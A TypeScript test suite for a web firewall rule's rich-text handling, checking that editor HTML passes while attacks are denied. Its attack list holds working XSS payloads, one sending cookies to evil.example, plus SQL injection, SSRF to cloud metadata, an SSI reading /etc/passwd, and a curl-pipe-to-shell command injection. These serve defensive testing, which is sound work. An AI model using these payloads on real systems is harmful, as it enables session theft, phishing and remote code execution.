import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { type Decision, parapet, silentLogger } from "@parapet/core";
import { type ShieldOptions, type ShieldReason, shield } from "../src/index.js";

function protectJson(options: Omit<ShieldOptions, "mode">, body: unknown): Promise<Decision> {
  const client = parapet({ rules: [shield({ mode: "LIVE", ...options })], logger: silentLogger });
  return client.protect({
    method: "POST",
    url: "/posts",
    ip: "203.0.113.7",
    headers: { host: "app.test", "content-type": "application/json" },
    body: JSON.stringify(body),
  });
}

const RICH = { richText: ["body.content"] };

/** What editors and clipboards produce, written after each one's output format. */
const EDITOR_HTML: Record<string, string> = {
  tinymce:
    '<p>Hello <strong>team</strong>, the <em>release</em> is out. See <a href="https://example.com/notes" target="_blank" rel="noopener">the notes</a>.</p>\n<ul>\n<li>Faster builds</li>\n<li>Fixed "<b>bold</b>" quotes</li>\n</ul>',
  ckeditor5:
    '<figure class="image"><img src="https://cdn.example.com/a.png" alt="Chart" width="640" height="480"><figcaption>Q3 sales</figcaption></figure><figure class="table"><table><thead><tr><th>Region</th><th>Sales</th></tr></thead><tbody><tr><td>EU</td><td>1,200</td></tr></tbody></table></figure><blockquote><p>Quote &amp; more</p></blockquote>',
  quill:
    '<p class="ql-align-center"><span style="color: rgb(230, 0, 0);">Red</span> and <u>underlined</u></p><ol><li data-list="bullet">One</li></ol><p><br></p><pre class="ql-syntax" spellcheck="false">const a = 1;\n</pre>',
  googleDocs:
    '<meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-5c3d1a2b-7fff-1234-abcd-0123456789ab"><p dir="ltr" style="line-height:1.38;margin-top:0pt;margin-bottom:0pt;"><span style="font-size:11pt;font-family:Arial,sans-serif;color:#000000;background-color:transparent;font-weight:400;">Minutes of the meeting</span></p></b>',
  wordPaste:
    '<!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings></xml><![endif]--><p class="MsoNormal" style="mso-margin-top-alt:auto;mso-margin-bottom-alt:auto"><span lang="EN-GB">Dear all,<o:p></o:p></span></p>',
  codeSample:
    '<p>Escape user input:</p><pre><code class="language-html">&lt;script&gt;alert(1)&lt;/script&gt;\n</code></pre><p>becomes text, not a tag.</p>',
  commandsInProse:
    "<p>Run <code>npm install</code> then set <code>PORT</code> to 3000 &amp; restart.</p><p>Windows users: <code>set NODE_ENV=production</code> in cmd.exe.</p>",
  localLink: '<p>Start the server, then view the website at <a href="http://localhost:3000">http://localhost:3000</a>.</p>',
  dataImage:
    '<p><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==" alt="pixel"></p><p><img src="https://img.shields.io/badge/x-y-blue?logo=data:image/svg%2bxml;base64,PHN2Zz4=" alt="badge"></p>',
};

/** What must still deny in a rich-text field: each runs script, loads active content, or changes how the page parses. */
const ATTACKS: Record<string, string> = {
  handler: "<p>Hi<img src=x onerror=alert(1)></p>",
  scriptElement: "<p>Hi</p><script>fetch('//evil.example/'+document.cookie)</script>",
  entityEncodedScheme: '<a href="jav&#x61;script:alert(1)">x</a>',
  tabSplitScheme: '<a href="java&#9;script:alert(1)">x</a>',
  iframe: '<iframe src="https://evil.example/"></iframe>',
  svg: "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  svgAnimatedHandler: '<set attributeName="onmouseover" to="alert(1)"/>',
  scriptedCss: '<p style="background:url(javascript:alert(1))">x</p>',
  commentSplitExpression: "<img style=\"xss:expr/*x*/ession(alert('xss'))\">",
  commentHiddenTag: '<!--<img src="--><img src=x onerror=alert(1)//">',
  mutationXss: "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  phishingForm: '<form action="https://evil.example/"><input name="password" type="password"></form>',
  metaRefresh: '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  base: '<base href="//evil.example/">',
  styleElement: "<style>@import 'https://evil.example/x.css';</style>",
  serverSideInclude: '<!--#exec cmd="cat /etc/passwd"-->',
  conditionalComment: "<!--[if IE]><script>alert(1)</script><![endif]-->",
  handlerSplitByComment: "<img src=x on<!-- -->error=alert(1)>",
  dataHtml: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
};

describe("shield richText", () => {
  for (const [editor, html] of Object.entries(EDITOR_HTML)) {
    it(`lets ${editor} HTML through where richText names the field`, async () => {
      const decision = await protectJson(RICH, { content: html });
      assert.equal(decision.conclusion, "ALLOW", JSON.stringify(decision.reason));
    });
  }

  it("changes the verdict: the same editor HTML denies in a field that is not rich text", async () => {
    for (const html of [EDITOR_HTML.tinymce, EDITOR_HTML.codeSample, EDITOR_HTML.commandsInProse]) {
      const decision = await protectJson({}, { content: html });
      assert.equal(decision.conclusion, "DENY", html);
    }
    const other = await protectJson(RICH, { content: EDITOR_HTML.tinymce, title: "<b>Release</b>" });
    assert.equal((other.reason as ShieldReason).location, "body.title");
  });

  for (const [name, html] of Object.entries(ATTACKS)) {
    it(`still denies XSS in a rich-text field: ${name}`, async () => {
      const decision = await protectJson(RICH, { content: `<p>Nice post!</p>${html}` });
      assert.equal(decision.conclusion, "DENY", `${name} passed`);
      const reason = decision.reason as ShieldReason;
      assert.equal(reason.class, "xss");
      assert.equal(reason.location, "body.content");
    });
  }

  it("still denies the other classes in the text a rich-text field shows", async () => {
    const sql = await protectJson(RICH, { content: "<p>1' UNION SELECT password FROM users--</p>" });
    assert.equal((sql.reason as ShieldReason).class, "sqli");
    const shell = await protectJson(RICH, { content: "<p>hello</p><p>$(curl -s https://evil.example/x.sh | sh)</p>" });
    assert.equal((shell.reason as ShieldReason).class, "cmdi");
    const metadata = await protectJson(RICH, { content: '<p>Chart:</p><img src="http://169.254.169.254/latest/meta-data/">' });
    assert.equal((metadata.reason as ShieldReason).class, "ssrf");
    const inAttribute = await protectJson(RICH, { content: `<a title="' OR 1=1--" href="https://example.com">x</a>` });
    assert.equal((inAttribute.reason as ShieldReason).class, "sqli");
  });

  it("matches places with * and **", async () => {
    const posts = { posts: [{ html: EDITOR_HTML.ckeditor5 }, { html: ATTACKS.handler }] };
    const decision = await protectJson({ richText: ["body.posts.*.html"] }, posts);
    assert.equal((decision.reason as ShieldReason).location, "body.posts.1.html");
    assert.equal((await protectJson({ richText: ["body.posts.**"] }, { posts: [{ html: EDITOR_HTML.quill }] })).conclusion, "ALLOW");
  });

  it("rejects a malformed option with advice", () => {
    assert.throws(() => shield({ mode: "LIVE", richText: "body.content" as never }), /`richText` must be an array/);
    assert.throws(() => shield({ mode: "LIVE", richText: ["content"] }), /`richText` location "content" must start with/);
  });

  it("stays linear on hostile markup in a rich-text field", async () => {
    const hostile = `${"<a title='".repeat(4_000)}${'<p x="<'.repeat(4_000)}`;
    const started = performance.now();
    await protectJson(RICH, { content: hostile });
    assert.ok(performance.now() - started < 2_000, "rich-text judgement took too long");
  });
});
